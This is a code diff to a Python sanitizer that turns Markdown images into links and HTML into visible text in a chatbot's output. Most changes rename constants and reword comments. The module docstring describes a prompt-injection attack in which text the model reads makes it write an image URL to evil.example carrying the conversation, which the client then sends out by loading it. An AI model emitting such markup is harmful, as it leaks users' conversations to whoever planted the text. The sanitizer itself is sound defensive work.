@@ -1,7 +1,7 @@
-"""Markdown in which nothing is loaded: images become links, HTML becomes visible text.
+"""Makes Markdown load nothing: images become links, HTML becomes visible text.
 
-Whoever can write into what a model reads can let it write `![](https://evil.example/?d=<what was said>)`, and a client
-that loads the image tells it to them without a click.
+A text that a model reads can make it write `![](https://evil.example/?d=<what was said>)`. A client that loads this
+image sends what was said to the author of that text, without a click.
 """
 
 from __future__ import annotations
@@ -13,8 +13,8 @@ from app.bot.rendering.markdown_inline import (
     AUTOLINK,
     HARMLESS_TAG,
     IMAGE_TAG,
-    LONGEST_CODE,
-    LONGEST_LABEL,
+    MAX_CODE,
+    MAX_LABEL,
     PUNCTUATION,
     CodeRuns,
 )
@@ -27,16 +27,16 @@ _LABEL = "image"
 _ADDRESS = r"(https?)://([A-Za-z0-9.-]{1,253})(?::[0-9]{1,5})?(?:[/?#][\w.~:/?#@$&*+,;=%-]{0,1500})?"
 _WEB_ADDRESS = re.compile(_ADDRESS, re.ASCII)
 _IMAGE = re.compile(
-    rf"""\[[^\[\]!<>`\\\n]{{0,{LONGEST_LABEL - 4}}}\]\({_ADDRESS}(?: "[^"\\\n<>`|\[\]]{{0,300}}")?\)""", re.ASCII
+    rf"""\[[^\[\]!<>`\\\n]{{0,{MAX_LABEL - 4}}}\]\({_ADDRESS}(?: "[^"\\\n<>`|\[\]]{{0,300}}")?\)""", re.ASCII
 )
 _ATTRIBUTE = re.compile(r"""[\s/"'](src|alt)[ \t]{0,5}=[ \t]{0,5}("[^"]*"|'[^']*'|[^\s"'>]+)""", re.IGNORECASE)
 _NOT_IN_A_LABEL = re.compile(r"[^\w .,:;()/-]")
 _CELL_END = re.compile(r"\\.|\|")
-_LONGEST_DELIMITER = 1_000
+_MAX_DELIMITER = 1_000
 
 
 def sanitize(text: str, image_hosts: AbstractSet[str] = frozenset()) -> str:
-    """`text` with links for images, except for those that come from `image_hosts`; code stays as it is written."""
+    """`text` with links instead of images, except for images from `image_hosts`. Code stays as it is."""
     if "<" not in text and "![" not in text:
         return text
     sanitizer = _Sanitizer(image_hosts)
@@ -46,21 +46,22 @@ def sanitize(text: str, image_hosts: AbstractSet[str] = frozenset()) -> str:
 class _Sanitizer:
     def __init__(self, image_hosts: AbstractSet[str]) -> None:
         self._image_hosts = image_hosts
-        # In a paragraph in which a run of backticks is left open at the end of a line, no code is certainly code.
+        # Set for the rest of a paragraph in which a run of backticks is open at the end of a line: readers disagree on
+        # what is code there.
         self._doubt = False
         self._pipe_in_code = False
 
     def line(self, line: Line, line_end: str) -> str:
         body = line.body
-        # The first line of code is where a part may end that is too long for a message, and the rest would be no code.
+        # A long answer may be split after the first line of code, and what follows would be no code then.
         if line.kind is Kind.BLANK or (line.literal and line.kind is not Kind.FENCE_OPEN):
             self._doubt = self._pipe_in_code = False
             return body + line_end
         after_pipe_in_code, self._pipe_in_code = self._pipe_in_code, False
         if line.fence is not None:
             self._doubt = True
-        if after_pipe_in_code and not body[line.content :][:_LONGEST_DELIMITER].strip("|:- \t\r"):
-            # Under it, the line before would be cells, and its code none.
+        if after_pipe_in_code and not body[line.content :][:_MAX_DELIMITER].strip("|:- \t\r"):
+            # This line would make the line before it the head of a table, in which the code would be no code.
             return f"{body[: line.content]}\\{body[line.content :]}{line_end}"
         if "<" in body or "`" in body or "![" in body:
             body = body[: line.content] + self._content(body[line.content :], cells=line.cells)
@@ -87,7 +88,7 @@ class _Sanitizer:
         return "".join([*out, text[position:]])
 
     def _replaced(self, text: str, found: re.Match[str], runs: CodeRuns, *, cell: bool) -> tuple[str, int]:
-        """What takes the place of `found`, and where to go on."""
+        """What `found` is replaced with, and the position to go on at."""
         start, end = found.span()
         mark = found[0]
         if mark[-1] == "!":
@@ -107,7 +108,7 @@ class _Sanitizer:
         if self._doubt:
             return end
         closed = runs.closing(end, end - start)
-        if closed is None or closed - start > LONGEST_CODE:
+        if closed is None or closed - start > MAX_CODE:
             self._doubt = True
             return end
         return closed
@@ -125,7 +126,7 @@ class _Sanitizer:
         if link is not None:
             return link[0], link.end()
         tag = HARMLESS_TAG.match(text, start)
-        # Alone in its line it would begin a block of HTML.
+        # At the beginning of a line it would begin a block of HTML.
         if tag is not None and not at_line_start:
             return tag[0], tag.end()
         image = IMAGE_TAG.match(text, start)
